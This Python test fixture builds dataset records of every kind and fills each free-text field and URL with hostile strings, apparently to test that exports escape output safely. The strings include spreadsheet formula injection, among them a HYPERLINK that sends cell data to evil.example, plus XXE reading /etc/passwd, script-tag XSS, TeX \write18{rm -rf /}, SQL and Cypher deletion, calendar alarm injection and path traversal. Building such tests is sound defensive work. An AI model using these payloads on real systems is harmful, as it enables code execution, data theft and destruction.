"""A dataset whose texts mean harm: one record of every kind for each, with the text wherever the model takes any."""

from __future__ import annotations

from functools import cache
from typing import TYPE_CHECKING, Any

from hard_texts import HARD_PIECES
from sinouk_innov.dataset import Dataset, Release
from sinouk_innov.dates import PartialDate, Period
from sinouk_innov.evidence import Basis, Citation
from sinouk_innov.model.belonging import Identifier, PartOf, SectorLink
from sinouk_innov.model.centre import Centre
from sinouk_innov.model.event import Event, Participation
from sinouk_innov.model.initiative import Initiative, Party
from sinouk_innov.model.organisation import Organisation
from sinouk_innov.model.person import Person, Role
from sinouk_innov.model.place import Place
from sinouk_innov.model.record import Absence, Name
from sinouk_innov.model.relation import Relation
from sinouk_innov.model.remark import Remark
from sinouk_innov.model.source import Source
from sinouk_innov.model.statistic import Statistic
from sinouk_innov.model.vocabularies import (
    AbsenceReason,
    Capacity,
    CentreKind,
    EventKind,
    IdentifierScheme,
    InitiativeKind,
    Measure,
    NameKind,
    OrganisationKind,
    PlaceKind,
    PublisherKind,
    Rank,
    RelationKind,
    RemarkKind,
    Sector,
    SourceKind,
    Standing,
    StatisticStatus,
)
from sinouk_innov.quantities import Bound, Quantity, Unit

if TYPE_CHECKING:
    from sinouk_innov.model.record import Record

__all__ = ["ADDRESSES", "FOLLOWED", "HOSTILE", "hostile"]

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide equals": "\uff1d1+1",
    "apostrophe": "'=1+1",
    "tab": "a\tb",
    "line ends": "a\nb\r\nc\rd",
    "nul": "a\x00b",
    "controls": "a\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85\x9bb",
    "unicode line ends": "a\u2028END:VEVENT\u2029b",
    "end of cdata": "<![CDATA[ ]]> ]]>",
    "entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;&lt;&#x3c;',
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "comment": "--><!-- */ /* {{7*7}} ${7*7} <%= 7*7 %>",
    "javascript": "javascript:alert(document.domain)//",
    "data address": "data:text/html;base64,PHNjcmlwdD4=",
    "override": "\u202etxt.exe\u202c \u2066a\u2069 \u200f",
    "long": "very long " * 1_900 + "text",
    "long word": "W" * 19_000,
    "folder": "../../../../etc/passwd",
    "windows folder": "..\\..\\CON:\\aux.txt",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh",
    "calendar escapes": '\\n\\N\\;\\,\\\\;,:";"',
    "parameter": "x;LANGUAGE=en:y",
    "tex": "\\input{/etc/passwd}\\write18{rm -rf /} $x^{2}$ 100% #1 {\\bf {a",
    "bibtex": '},\n}\n@string{a = "b"}\n@misc{evil, title={x}',
    "braces": "}}}{{{",
    "sql": "'; DROP TABLE events; --",
    "turtle": '""" . <a> <b> <c> . """',
    "cypher": '"})-[:X]->(n) DETACH DELETE n //',
    "separators": "a;b|c,d\"e'f`g",
    "surrogate neighbours": "\ud7ff\ue000\ufffe\uffff\U0010ffff",
    "hard to fold": "x" + "".join(piece for piece in HARD_PIECES if piece.strip()),
    "marks": "Z" + "\u0301" * 200,
    "null word": "null",
    "yes": "NO",
    "number": "1e309",
}
"""Each is a text that the model takes in a name, title, gist, wording or note."""
ADDRESSES = {
    "formula": "https://evil.example/=cmd|'!A0",
    "script": 'https://evil.example/"><script>alert(1)</script>',
    "braces": "https://evil.example/{}}}\\write18{x}%0A@misc{a,",
    "calendar": "https://evil.example/;,:\\nEND:VEVENT",
    "control": "https://evil.example/\x00\x01",
    "port alone": "http://:80/",
    "no host": "http://[",
    "turned": "https://例え.example/é\u202e",
    "user": "https://www.example.org:pass@evil.example/",
    "space": "https://evil.example/\u200b",
    "marks": "https://evil.example/`^[a]",
    "half a code": "https://evil.example/100%",
    "not ascii": "https://例え.example/é?边=1#\u0301",
    "all signs": "https://evil.example:8443/-._~!$&'()*+,;=:@/%3Cscript%3E%22?a=b&c=/?#d?e'=1",
    "number": "http://[2001:db8::1]/?x=--%3E",
}
"""Each is an address that the model takes, which asks for http or https and no white space."""
FOLLOWED = frozenset(ADDRESSES[what] for what in ("not ascii", "all signs", "number"))
"""Those that a browser may follow as they stand."""


def _name(text: str) -> tuple[Name, ...]:
    return (
        Name(text=text, language="en", kind=NameKind.OTHER, family=text, given=text, note=text, citations=_cited(text)),
        Name(text=text, language="zh", kind=NameKind.VARIANT, period=Period("2016/..", text)),
    )


def _cited(text: str) -> tuple[Citation, ...]:
    return (Citation(source="src-a0", basis=Basis.INFERRED, locator=text, note=text),)


def _absent(field: str, text: str) -> tuple[Absence, ...]:
    return (Absence(field=field, reason=AbsenceReason.DOUBTED, note=text),)


def records_with(slug: str, text: str, address: str) -> list[Record]:
    """Return one record of every kind with one text wherever the model takes free text."""
    day = PartialDate("2019-05-23", text)
    frame: dict[str, Any] = {"note": text}
    more: dict[str, Any] = {"citations": _cited(text), "note": text}
    sectors = (SectorLink(sector=Sector.OTHER, standing=Standing.CORE, wording=text, **more),)
    # An identifier has one line.
    identifiers = (Identifier(scheme=IdentifierScheme.OTHER, value=text.replace("\n", " "), **more),)
    return [
        Source(
            id=f"src-{slug}",
            kind=SourceKind.OTHER,
            title=text,
            publisher=text,
            publisher_kind=PublisherKind.OTHER,
            url=address,
            archived=address,
            published=day,
            accessed=day,
            language="en",
            licence=text,
            absent=_absent("extent", text),
            **frame,
        ),
        Place(
            id=f"pla-{slug}",
            names=_name(text),
            kind=PlaceKind.OTHER,
            part_of="pla-a0" if slug != "a0" else None,
            identifiers=identifiers,
            latitude=1.5 if slug == "a0" else None,
            longitude=2.5 if slug == "a0" else None,
            citations=_cited(text),
            **frame,
        ),
        Organisation(
            id=f"org-{slug}",
            names=_name(text),
            kind=OrganisationKind.OTHER,
            sectors=sectors,
            website=address,
            identifiers=identifiers,
            **frame,
        ),
        Person(
            id=f"per-{slug}",
            names=_name(text),
            honorific=text,
            roles=(
                Role(titles=_name(text), rank=Rank.HEAD, body=f"org-{slug}", period=Period("2016/", text), note=text),
            ),
            **frame,
        ),
        Centre(
            id=f"cen-{slug}",
            names=_name(text),
            kind=CentreKind.OTHER,
            place=f"pla-{slug}",
            part_of=(PartOf(whole="pla-a0", qualifier=text, note=text),),
            sectors=sectors,
            website=address,
            identifiers=identifiers,
            **frame,
        ),
        Initiative(
            id=f"ini-{slug}",
            names=_name(text),
            kind=InitiativeKind.OTHER,
            parties=(Party(label=text, capacity=Capacity.OTHER, note=text),),
            outcome=text,
            sectors=sectors,
            **frame,
        ),
        Event(
            id=f"evt-{slug}",
            names=_name(text),
            kind=EventKind.OTHER,
            when=day,
            where=f"cen-{slug}",
            about=(f"ini-{slug}",),
            participations=(
                Participation(label=text, capacity=Capacity.OTHER, role=text, group=text, note=text),
                Participation(entity=f"per-{slug}", capacity=Capacity.GUEST, role=text, group=text),
            ),
            citations=(*_cited(text), Citation(source=f"src-{slug}")),
            absent=_absent("part_of", text),
            **frame,
        ),
        Relation(
            id=f"rel-{slug}",
            subject=f"org-{slug}",
            kind=RelationKind.OTHER,
            object=f"cen-{slug}",
            period=Period("2016/", text),
            qualifier=text,
            **frame,
        ),
        Statistic(
            id=f"sta-{slug}",
            about=f"cen-{slug}",
            measure=Measure.OTHER,
            category=text,
            scope=text,
            quantity=Quantity(None, Unit.COUNT, Bound.VAGUE, None, text),
            as_of=day,
            status=StatisticStatus.REPORTED,
            **frame,
        ),
        Remark(
            id=f"rem-{slug}",
            speaker=f"per-{slug}",
            event=f"evt-{slug}",
            about=(f"cen-{slug}",),
            gist=text,
            kind=RemarkKind.STATEMENT,
            **frame,
        ),
    ]


@cache
def hostile() -> Dataset:
    """Return a dataset in which every hostile text stands in every field that takes text."""
    addresses = list(ADDRESSES.values())
    rows = [
        record
        for at, text in enumerate(HOSTILE.values())
        for record in records_with(f"a{at}", text, addresses[at % len(addresses)])
    ]
    head = HOSTILE["script"] + HOSTILE["calendar"]
    return Dataset.of(rows, release=Release(title=head, data_version=head, as_of=HOSTILE["tex"], licence=head))
